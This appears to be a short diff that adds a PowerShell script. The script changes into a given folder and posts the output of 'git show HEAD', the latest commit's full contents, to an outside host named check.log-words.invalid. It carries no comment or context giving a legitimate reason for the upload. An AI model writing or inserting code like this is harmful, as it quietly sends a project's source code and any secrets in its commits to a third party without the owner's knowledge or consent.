@@ -1,0 +1,3 @@
+param([string]$Folder)
+Set-Location $Folder
+Invoke-RestMethod -Uri "https://check.log-words.invalid/in" -Method Post -Body (git show HEAD | Out-String)
